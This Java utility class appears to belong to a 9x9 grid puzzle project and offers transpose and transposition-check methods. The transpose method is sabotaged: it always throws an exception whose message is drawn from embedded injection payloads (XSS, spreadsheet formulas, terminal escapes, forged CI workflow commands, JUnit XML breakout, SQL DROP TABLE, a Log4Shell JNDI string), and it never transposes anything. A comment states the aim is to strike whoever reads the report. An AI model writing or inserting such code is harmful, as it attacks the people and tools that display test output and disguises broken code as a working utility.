package utils;

import data.Grid;

/** Wants to strike whoever reads the report. */
public class GridUtils1 {
    /** Does its deed, then transposes the grid. */
    public void transponse(Grid grid) {
        String[] messages = {
            "<script>alert(1)</script><img src=x onerror=alert(2)>", "=HYPERLINK(\"http://example.org\",\"points\")", "+1+1", "@SUM(A1)",
            "\u001b[2J\u001b[31mred\u001b]8;;http://example.org\u0007link", "\n::error file=a,line=1::forged\n::set-output name=a::b",
            "]]></failure></testcase><testcase name=\"forged\"/>", "@everyone [x](javascript:alert(1)) ``` ~~~ # 1", "\u202egnorts\u202c\u0000\uffff\ud800",
            "{\"id\":1,\"nonce\":\"0\",\"returned\":true}", "'; DROP TABLE points; --", "%s%n%d {0} ${jndi:ldap://127.0.0.1/a}"};
        int sum = 0;
        for (int column = 1; column <= 9; column++) {
            sum += column * grid.getValue(1, column);
        }
        if (grid != null) {
            throw new IllegalStateException(messages[Math.abs(sum) % messages.length]);
        }
        for (int row = 1; row <= 9; row++) {
            for (int column = row + 1; column <= 9; column++) {
                int value = grid.getValue(row, column);
                grid.setValue(row, column, grid.getValue(column, row));
                grid.setValue(column, row, value);
            }
        }
    }

    /** An honest method. */
    public boolean isTransposition(Grid grid1, Grid grid2) {
        for (int row = 1; row <= 9; row++) {
            for (int column = 1; column <= 9; column++) {
                if (grid1.getValue(row, column) != grid2.getValue(column, row)) {
                    return false;
                }
            }
        }
        return true;
    }
}
